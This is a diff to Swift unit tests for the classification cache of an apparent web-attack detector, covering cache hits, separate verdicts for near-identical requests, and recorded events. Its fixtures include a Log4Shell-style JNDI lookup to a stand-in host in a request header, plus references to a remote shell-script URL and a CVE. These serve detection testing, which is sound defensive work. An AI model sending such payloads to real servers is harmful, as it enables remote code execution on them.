@@ -17,11 +17,14 @@ final class ClassificationCacheTests: XCTestCase {
             let cached = cache.classify(r, with: classifier)
             XCTAssertEqual(cached.classification, classifier.classify(r), String(decoding: r.raw.prefix(200), as: UTF8.self))
             XCTAssertEqual(cached.view.any, RequestView(r).any)
-            XCTAssertEqual(cache.urls(in: r), URLExtractor.extract(r))
-            XCTAssertEqual(cache.urls(in: r), URLExtractor.extract(r))
+            XCTAssertEqual(cache.urls(in: r, entry: cached), URLExtractor.extract(r))
+            XCTAssertEqual(cache.urls(in: r, entry: cache.classify(r, with: classifier)), URLExtractor.extract(r))
+            let fresh = WebEvents.Recorded(r)
+            XCTAssertEqual(cached.recorded.http, fresh.http)
+            XCTAssertEqual(cached.recorded.payload, fresh.payload)
         }
-        // Identical variants (a request already in upper case) share an entry; every second ask is a hit.
-        XCTAssertEqual(cache.hitCount - hitsBefore, requests.count)
+        // Every second ask (and the third, for the URLs) is a hit.
+        XCTAssertEqual(cache.hitCount - hitsBefore, 2 * requests.count)
     }
 
     /// One byte apart is another request: an injection is not answered with the clean request's verdict.
@@ -36,6 +39,13 @@ final class ClassificationCacheTests: XCTestCase {
         XCTAssertEqual(cache.classify(injected, with: classifier).classification.categories, ["sqli"])
         XCTAssertEqual(cache.count, 2)
         XCTAssertEqual(cache.hitCount, 2)
+        // The same where the two differ only in their last header, past any prefix a key might stop at.
+        let head = "GET /item.php?id=1 HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nX-Forwarded-For: "
+        for (tail, categories) in [("1", [String]()), ("${jndi:ldap://198.51.100.7/a}", ["jndi"]), ("1", []), ("${jndi:ldap://198.51.100.7/a}", ["jndi"])] {
+            let r = try XCTUnwrap(ClassifierCorpusTests.parse(Array((head + tail + "\r\n\r\n").utf8)))
+            XCTAssertEqual(cache.classify(r, with: classifier).classification.categories, categories, tail)
+        }
+        XCTAssertEqual(cache.hitCount, 4)
     }
 
     /// Long requests, and requests whose raw copy was cut, are classified every time and never stored:
@@ -49,10 +59,12 @@ final class ClassificationCacheTests: XCTestCase {
         for _ in 0..<3 {
             _ = cache.classify(long, with: classifier)
             _ = cache.classify(cut, with: classifier)
-            _ = cache.urls(in: long)
+            _ = cache.urls(in: long, entry: cache.classify(long, with: classifier))
         }
         XCTAssertEqual(cache.count, 0)
         XCTAssertEqual(cache.hitCount, 0)
+        // The event still records what the cut request says of itself.
+        XCTAssertEqual(cache.classify(cut, with: classifier).recorded.payload.length, cut.rawLength)
     }
 
     /// A stream of distinct requests (a fuzzer, a wordlist) never holds more than `capacity` entries, and
@@ -101,6 +113,11 @@ extension WebSessionTests {
         XCTAssertEqual(first, second)
         XCTAssertEqual(out1.events.map { $0.kind }, out2.events.map { $0.kind })
         XCTAssertEqual(out1.events.map { $0.attack }, out2.events.map { $0.attack })
+        let requests = [out1, out2].map { $0.events.first { $0.kind == .httpRequest } }
+        XCTAssertEqual(requests[0]?.payload, requests[1]?.payload)
+        XCTAssertEqual(requests[1]?.payload?.length, raw.utf8.count)
+        XCTAssertEqual(requests[0]?.http, requests[1]?.http)
+        XCTAssertEqual(requests[1]?.http?.client, "attacker")
         XCTAssertEqual(out2.events.first { $0.kind == .urlSeen }?.url, "http://198.51.100.7/x.sh")
         XCTAssertEqual(out2.events.first { $0.kind == .httpRequest }?.attack?.cves, ["CVE-2018-20062"])
     }
